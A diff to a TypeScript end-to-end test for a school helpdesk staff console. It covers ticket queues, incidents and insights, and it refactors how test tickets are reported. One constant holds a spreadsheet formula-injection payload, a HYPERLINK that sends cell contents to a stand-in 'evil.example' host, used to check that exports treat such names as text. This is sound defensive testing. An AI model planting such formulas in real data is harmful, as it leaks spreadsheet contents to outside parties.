@@ -8,16 +8,6 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
 import { startStack, type Person, type Stack } from './stack.js';
 
-const REPORT = /* GraphQL */ `
-  mutation Report($input: ReportProblemInput!) {
-    reportProblem(input: $input) {
-      ticket {
-        id
-        number
-      }
-    }
-  }
-`;
 const TICKET = /* GraphQL */ `
   query Ticket($id: ID!) {
     ticket(id: $id) {
@@ -39,9 +29,8 @@ const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Printing")';
 
 describe('the staff console', () => {
   let stack: Stack;
-  const report = async (student: Person, categoryId: string, title: string, description: string) =>
-    (await stack.gqlAs(student, REPORT, { input: { categoryId, title, description, expectedResolutionHours: 24 } })).reportProblem
-      .ticket as { id: string; number: string };
+  const report = (student: Person, category: string, title: string, description: string) =>
+    stack.report(student, category, title, description, { expectedResolutionHours: 24 });
   const expectAccessible = async (page: Page, name: string) => {
     expect(await stack.accessibilityProblems(page), `axe on ${name}`).toEqual([]);
   };
@@ -70,7 +59,7 @@ describe('the staff console', () => {
   it('takes a ticket from the queue, replies with a canned response, notes, resolves with a prediction, and sees the rating land', async () => {
     const lms = await report(
       'amara',
-      stack.school.categories['Login & accounts']!,
+      'Login & accounts',
       'Cannot sign in to the LMS',
       'It says my password expired and the reset link fails.',
     );
@@ -83,7 +72,7 @@ describe('the staff console', () => {
     await page.getByRole('link', { name: /Cannot sign in to the LMS/ }).waitFor();
     // A ticket reported while the queue is open appears without a reload.
     await subscriptions.untilSent('QueueChanged');
-    await report('ben', stack.school.categories['Login & accounts']!, 'Locked out after three tries', 'The portal locked my account.');
+    await report('ben', 'Login & accounts', 'Locked out after three tries', 'The portal locked my account.');
     await page.getByRole('link', { name: /Locked out after three tries/ }).waitFor({ timeout: 10_000 });
     await expectAccessible(page, 'queue');
     await stack.screenshot(page, '02-queue-unassigned-live');
@@ -169,13 +158,8 @@ describe('the staff console', () => {
   });
 
   it('makes an incident of two tickets and resolves both with one update', async () => {
-    const first = await report(
-      'ben',
-      stack.school.categories['Wi-Fi & network']!,
-      'Library Wi-Fi keeps dropping',
-      'Every few minutes on the second floor.',
-    );
-    const second = await report('chloe', stack.school.categories['Wi-Fi & network']!, 'No Wi-Fi in the library', 'Cannot connect at all.');
+    const first = await report('ben', 'Wi-Fi & network', 'Library Wi-Fi keeps dropping', 'Every few minutes on the second floor.');
+    const second = await report('chloe', 'Wi-Fi & network', 'No Wi-Fi in the library', 'Cannot connect at all.');
     const page = await stack.signedInPage('staff');
     await page.goto(`${stack.origin}/console/queue/open`);
     await page.getByLabel(`Select ${first.number}`).check();
@@ -234,7 +218,7 @@ describe('the staff console', () => {
     await stack.screenshot(page, '12-insights-table');
 
     // A name that would be a formula is exported as text.
-    await report('chloe', stack.school.categories[FORMULA_NAME]!, 'Printer eats pages', 'On the second floor.');
+    await report('chloe', FORMULA_NAME, 'Printer eats pages', 'On the second floor.');
     await page.reload();
     const volume = page.getByRole('region', { name: 'Volume by category' });
     await volume.getByRole('button', { name: 'Show table' }).click();
